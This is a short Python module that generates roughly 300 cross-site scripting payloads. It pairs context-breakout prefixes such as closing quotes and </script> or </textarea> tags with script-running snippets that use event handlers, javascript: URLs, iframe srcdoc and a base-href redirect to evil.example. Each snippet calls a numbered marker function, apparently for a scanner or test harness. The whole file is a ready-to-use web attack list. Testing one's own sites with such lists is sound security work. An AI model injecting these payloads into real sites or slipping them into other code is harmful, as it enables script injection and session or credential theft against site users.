"""Texts that would run in a browser if a page wrote them out as they are; each names itself by a number."""

from itertools import product

# What gets out of the place where the text stands, and what then runs `say(number)`.
OUT_OF = (
    "", '"', "'", "`", '">', "'>", "</p>", "</title>", "</textarea>", "</script>", "--></x>", "</select>",
    "</style>", "</svg>", '" ',
)  # fmt: skip
RUNS = (
    "<script>say({n})</script>",
    "<img src=x onerror=say({n})>",
    "<svg onload=say({n})>",
    "<svg><script>say({n})</script></svg>",
    "<details open ontoggle=say({n})>",
    "<input autofocus onfocus=say({n})>",
    "<iframe srcdoc='<script>parent.say({n})</script>'>",
    "<a href=javascript:say({n})>x</a>",
    "<body onpageshow=say({n})>",
    "<video><source onerror=say({n})>",
    "<math><mtext><style><img src=x onerror=say({n})>",
    "<base href=//evil.example/><img src=x onerror=say({n})>",
    "<form action=javascript:say({n})><button>x",
    " onmouseover=say({n}) x=",
    " onfocus=say({n}) autofocus x=",
    "<script src=data:,say({n})></script>",
    "<object data='javascript:say({n})'>",
    "<link rel=stylesheet href=//evil.example onerror=say({n})>",
    "<template><script>say({n})</script></template><x>",
    "{{{{ say({n}) }}}}<img src=x onerror=say({n})>",
    "\u003cscript\u003esay({n})\u003c/script\u003e",
)
PROBE = (
    "<xp xa={n}>"  # for fields of few characters, and for looking whether anything is let through
)


def payloads() -> list[str]:
    """Return some 300 texts, each with its number."""
    return [out + runs.format(n=number) for number, (out, runs) in enumerate(product(OUT_OF, RUNS))]
